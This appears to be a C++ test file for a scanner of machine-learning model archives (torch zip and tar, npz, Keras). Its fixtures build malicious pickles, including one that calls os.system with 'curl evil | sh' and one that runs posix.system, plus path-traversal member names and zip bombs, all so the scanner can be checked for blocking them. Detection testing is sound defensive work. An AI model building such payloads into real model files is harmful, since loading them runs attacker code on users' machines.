#include <catch2/catch.hpp>

#include "scanner/scanner.h"
#include "tests/scanner/corpus.h"

namespace sigil::scanner {
namespace {

using testing::BuildZip;
using testing::FindRule;
using testing::Pickle;
using testing::Rules;
using testing::TorchZip;
using testing::ZipMember;

std::string EvilPickle() {
  Pickle p(2);
  p.Call("os", "system", "curl evil | sh").Stop();
  return p.bytes();
}

bool HasCritical(const FileReport& r, const std::string& location) {
  for (const Finding& f : r.findings) {
    if (f.severity == Severity::kCritical && f.location == location) return true;
  }
  return false;
}

TEST_CASE("zip: a torch.save-style archive is clean; a malicious data.pkl is blocked",
          "[scanner]") {
  FileReport r = ScanBytes(TorchZip("archive", testing::TorchDataPkl(2)));
  INFO(Rules(r));
  CHECK(r.format == Format::kTorchZip);
  CHECK(r.verdict == Verdict::kClean);
  CHECK(r.findings.empty());

  r = ScanBytes(TorchZip("archive", EvilPickle()));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kBlocked);
  const Finding* g = FindRule(r, "pickle.global");
  REQUIRE(g != nullptr);
  CHECK(g->location == "archive/data.pkl");
  CHECK(g->global == "os.system");
  CHECK(g->offset == 2);
}

TEST_CASE("zip: zip64 archives are read through their zip64 records", "[scanner]") {
  std::vector<ZipMember> members = {{"archive/data.pkl", testing::TorchDataPkl(2)},
                                    {"archive/data/0", std::string(64, '\0')},
                                    {"archive/version", "3\n"}};
  FileReport r = ScanBytes(BuildZip(members, /*zip64=*/true));
  INFO(Rules(r));
  CHECK(r.format == Format::kTorchZip);
  CHECK(r.verdict == Verdict::kClean);
  CHECK(r.globals.size() == 3);

  members[0].data = EvilPickle();
  r = ScanBytes(BuildZip(members, true));
  INFO(Rules(r));
  CHECK(HasCritical(r, "archive/data.pkl"));
}

TEST_CASE("zip: a pickle hidden under any member name is analysed", "[scanner]") {
  std::vector<ZipMember> extra = {{"archive/data/weights.bin", EvilPickle()}};
  FileReport r = ScanBytes(TorchZip("archive", testing::TorchDataPkl(1), extra));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kBlocked);
  CHECK(HasCritical(r, "archive/data/weights.bin"));
  CHECK(FindRule(r, "zip.pickle_member") != nullptr);

  // Protocol 0 has no magic number, and deflate hides the bytes.
  ZipMember text{"archive/data/1", "cposix\nsystem\n(S'id'\ntR."};
  text.deflate = true;
  r = ScanBytes(TorchZip("archive", testing::TorchDataPkl(1), {text}));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kBlocked);
  CHECK(HasCritical(r, "archive/data/1"));
}

TEST_CASE("zip: tensor bytes that look like a pickle opcode are not findings", "[scanner]") {
  std::vector<ZipMember> extra = {
      {"archive/data/1", std::string("(\x01\x02\x03\x04\x05\x06\x07", 8)},
      {"archive/data/2", std::string("\x80\x02\x00\x00\x11\x22", 6)},
      {"archive/data/3", std::string("N.garbage")},  // a valid tiny pickle, harmless
  };
  FileReport r = ScanBytes(TorchZip("archive", testing::TorchDataPkl(1), extra));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kClean);
}

TEST_CASE("zip: central directory and local header disagree", "[scanner]") {
  ZipMember pkl{"archive/data.pkl", testing::TorchDataPkl(1)};
  pkl.local_name = "archive/data.pkx";
  FileReport r = ScanBytes(BuildZip({pkl, {"archive/version", "3\n"}}));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kBlocked);
  const Finding* f = FindRule(r, "zip.name_mismatch");
  REQUIRE(f != nullptr);
  CHECK(f->severity == Severity::kHigh);
  CHECK(f->message.find("archive/data.pkx") != std::string::npos);
}

TEST_CASE("zip: duplicate names, traversal and absolute names", "[scanner]") {
  FileReport r = ScanBytes(BuildZip({{"archive/data.pkl", testing::TorchDataPkl(1)},
                                     {"archive/data.pkl", EvilPickle()}}));
  INFO(Rules(r));
  CHECK(FindRule(r, "zip.duplicate_name") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);

  for (const std::string& name : {std::string("../../etc/cron.d/x"), std::string("a/../../b"),
                                  std::string("/etc/passwd"), std::string("C:\\win.ini"),
                                  std::string("a\\..\\..\\b")}) {
    r = ScanBytes(BuildZip({{name, "hello"}}));
    INFO(name + " " + Rules(r));
    CHECK(FindRule(r, "zip.path_traversal") != nullptr);
    CHECK(r.verdict == Verdict::kBlocked);
  }
  r = ScanBytes(BuildZip({{"a/b..c/d", "hello"}}));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kClean);
}

TEST_CASE("zip: encrypted entries cannot be scanned", "[scanner]") {
  ZipMember m{"archive/data.pkl", testing::TorchDataPkl(1)};
  m.flags = 1;
  FileReport r = ScanBytes(BuildZip({m}));
  INFO(Rules(r));
  CHECK(FindRule(r, "zip.encrypted") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);
}

TEST_CASE("zip: nested archives are scanned, to a depth limit", "[scanner]") {
  std::string inner = TorchZip("inner", EvilPickle());
  FileReport r = ScanBytes(BuildZip({{"model/nested.zip", inner}}));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kBlocked);
  CHECK(HasCritical(r, "model/nested.zip!inner/data.pkl"));

  ZipMember deflated{"model/nested.zip", inner};
  deflated.deflate = true;
  r = ScanBytes(BuildZip({deflated}));
  CHECK(HasCritical(r, "model/nested.zip!inner/data.pkl"));

  std::string doll = TorchZip("inner", EvilPickle());
  for (int i = 0; i < 8; ++i) doll = BuildZip({{"level" + std::to_string(i) + ".zip", doll}});
  r = ScanBytes(doll);
  INFO(Rules(r));
  CHECK(FindRule(r, "zip.nesting") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);
}

TEST_CASE("zip: decompression bombs are refused without inflating them", "[scanner]") {
  ZipMember bomb{"archive/data/0", std::string(20 << 20, '\0')};
  bomb.deflate = true;
  FileReport r = ScanBytes(BuildZip({{"archive/data.pkl", testing::TorchDataPkl(1)}, bomb}));
  INFO(Rules(r));
  const Finding* f = FindRule(r, "zip.bomb");
  REQUIRE(f != nullptr);
  CHECK(f->severity == Severity::kHigh);
  CHECK(r.verdict == Verdict::kBlocked);

  // A member that inflates past its declared size.
  ZipMember liar{"archive/data.pkl", testing::TorchDataPkl(1) + std::string(5000, 'N')};
  liar.deflate = true;
  liar.declared_size = 100;
  r = ScanBytes(BuildZip({liar}));
  INFO(Rules(r));
  CHECK(FindRule(r, "zip.size_mismatch") != nullptr);

  // Members needing analysis beyond the in-memory limit are not read.
  ZipMember big{"archive/data.pkl", testing::TorchDataPkl(1)};
  big.deflate = true;
  ScanOptions tiny;
  tiny.max_inflated_member = 16;
  r = ScanBytes(BuildZip({big}), tiny);
  CHECK(FindRule(r, "limit.zip_member") != nullptr);
  CHECK(r.verdict == Verdict::kInvalid);
}

TEST_CASE("zip: CRC mismatches and entries only local headers show", "[scanner]") {
  ZipMember pkl{"archive/data.pkl", testing::TorchDataPkl(1)};
  pkl.bad_crc = true;
  FileReport r = ScanBytes(BuildZip({pkl}));
  INFO(Rules(r));
  CHECK(FindRule(r, "zip.crc_mismatch") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);

  ZipMember hidden{"archive/evil.pkl", EvilPickle()};
  hidden.hidden = true;
  r = ScanBytes(BuildZip({{"archive/data.pkl", testing::TorchDataPkl(1)}, hidden,
                          {"archive/version", "3\n"}}));
  INFO(Rules(r));
  CHECK(FindRule(r, "zip.hidden_entry") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);
}

TEST_CASE("zip: truncated and corrupt archives are invalid, never a crash", "[scanner]") {
  std::string zip = TorchZip("archive", testing::TorchDataPkl(2));
  FileReport r = ScanBytes(zip.substr(0, zip.size() / 2));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kInvalid);
  CHECK(FindRule(r, "zip.no_end_record") != nullptr);

  std::string cut_cd = zip;
  cut_cd.resize(zip.size() - 22);
  CHECK(ScanBytes(cut_cd).verdict == Verdict::kInvalid);

  // Entry count larger than the directory can hold.
  std::string lying = zip;
  lying[lying.size() - 12] = '\x7f';
  lying[lying.size() - 14] = '\x7f';
  r = ScanBytes(lying);
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kInvalid);

  // Every prefix of a valid archive scans without crashing.
  for (size_t n = 4; n < zip.size(); n += 7) {
    FileReport p = ScanBytes(zip.substr(0, n));
    CHECK(p.verdict != Verdict::kClean);
  }
}

TEST_CASE("zip: npz and keras archives", "[scanner]") {
  std::string npy = testing::Npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }",
                                 std::string(8, '\0'));
  FileReport r = ScanBytes(BuildZip({{"a.npy", npy}, {"b.npy", npy}}));
  INFO(Rules(r));
  CHECK(r.format == Format::kNumpyZip);
  CHECK(r.verdict == Verdict::kClean);

  std::string lambda =
      R"({"class_name": "Functional", "config": {"layers": [{"module": "keras.layers",)"
      R"( "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__",)"
      R"( "config": {"code": "4wEAAAAAAAAA"}}}}]}})";
  r = ScanBytes(BuildZip({{"metadata.json", R"({"keras_version": "3.0.0"})"},
                          {"config.json", lambda},
                          {"model.weights.h5", std::string("\x89HDF\r\n\x1a\n", 8)}}));
  INFO(Rules(r));
  CHECK(r.format == Format::kKeras);
  CHECK(FindRule(r, "keras.lambda") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);

  std::string plain =
      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [)"
      R"({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2},)"
      R"( "registered_name": null}]}, "registered_name": null})";
  r = ScanBytes(BuildZip({{"metadata.json", R"({"keras_version": "3.0.0"})"},
                          {"config.json", plain}}));
  INFO(Rules(r));
  CHECK(r.format == Format::kKeras);
  CHECK(r.verdict == Verdict::kClean);

  std::string custom =
      R"({"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {}})";
  r = ScanBytes(custom);
  INFO(Rules(r));
  CHECK(r.format == Format::kKerasConfig);
  CHECK(FindRule(r, "keras.custom_module") != nullptr);
  CHECK(r.verdict == Verdict::kBlocked);
}

TEST_CASE("zip: a pickle that is also a zip archive is a polyglot", "[scanner]") {
  // A benign pickle first (what torch.load reads), then a zip whose offsets
  // are relative to its own start; Python's zipfile adjusts for the prefix.
  std::string head = testing::TorchDataPkl(1);
  std::string zip = BuildZip({{"archive/data.pkl", EvilPickle()}});
  FileReport r = ScanBytes(head + zip);
  INFO(Rules(r));
  CHECK(r.format == Format::kPickle);
  CHECK(FindRule(r, "format.polyglot") != nullptr);
  bool payload = false;
  for (const Finding& f : r.findings) {
    payload |= f.location == "(zip view)!archive/data.pkl" && f.global == "os.system";
  }
  CHECK(payload);
  CHECK(r.verdict == Verdict::kBlocked);

  // The same prefix before a zip, read as a zip: the shifted view is scanned.
  r = ScanBytes(std::string(100, ' ') + TorchZip("archive", EvilPickle()));
  INFO(Rules(r));
  CHECK(FindRule(r, "format.polyglot") != nullptr);
  CHECK(HasCritical(r, "(zip view)!archive/data.pkl"));

  // Random tensor bytes that happen to contain an end-record signature are not.
  std::string safetensors = testing::Safetensors(
      R"({"t":{"dtype":"U8","shape":[40],"data_offsets":[0,40]}})", 0) +
      std::string("PK\x05\x06", 4) + std::string(36, '\0');
  r = ScanBytes(safetensors);
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kClean);
}

TEST_CASE("tar: the oldest torch.save layout is unpickled, so it is scanned", "[scanner]") {
  using testing::BuildTar;
  using testing::TarMember;
  Pickle count(2);
  count.Int(0).Stop();
  std::string sys_info = Pickle(2).EmptyDict().Stop().bytes();
  std::vector<TarMember> members = {{"sys_info", sys_info, '0'},
                                    {"pickle", testing::TorchDataPkl(1), '0'},
                                    {"storages", count.bytes() + std::string(40, '\x07'), '0'},
                                    {"tensors", count.bytes(), '0'}};
  FileReport r = ScanBytes(BuildTar(members));
  INFO(Rules(r));
  CHECK(r.format == Format::kTorchLegacy);
  CHECK(r.verdict == Verdict::kClean);

  members[1].data = EvilPickle();
  r = ScanBytes(BuildTar(members));
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kBlocked);
  CHECK(HasCritical(r, "pickle"));

  // A payload in the storages stream, after its count pickle.
  members[1].data = testing::TorchDataPkl(1);
  members[2].data = count.bytes() + EvilPickle() + std::string(40, '\x07');
  r = ScanBytes(BuildTar(members));
  INFO(Rules(r));
  CHECK(HasCritical(r, "storages"));

  r = ScanBytes(BuildTar({{"../../etc/x", "hi", '0'}, {"a", "", '2'}, {"b", "1", '0'},
                          {"b", "2", '0'}}));
  INFO(Rules(r));
  CHECK(r.format == Format::kTar);
  CHECK(FindRule(r, "tar.path_traversal") != nullptr);
  CHECK(FindRule(r, "tar.link") != nullptr);
  CHECK(FindRule(r, "tar.duplicate_name") != nullptr);

  std::string tar = BuildTar(members);
  std::string corrupt = tar;
  corrupt[1024 + 2] ^= 1;  // the second header's name: its checksum breaks
  r = ScanBytes(corrupt);
  INFO(Rules(r));
  CHECK(r.verdict == Verdict::kInvalid);
  CHECK(FindRule(r, "tar.bad_header") != nullptr);
  for (size_t n = 512; n < tar.size(); n += 97) {
    FileReport p = ScanBytes(tar.substr(0, n));
    CHECK(p.format != Format::kUnknown);
  }

  // A tar nested in a zip is found too.
  r = ScanBytes(BuildZip({{"old/model.tar", BuildTar({{"pickle", EvilPickle(), '0'}})}}));
  INFO(Rules(r));
  CHECK(HasCritical(r, "old/model.tar!pickle"));
}

}  // namespace
}  // namespace sigil::scanner
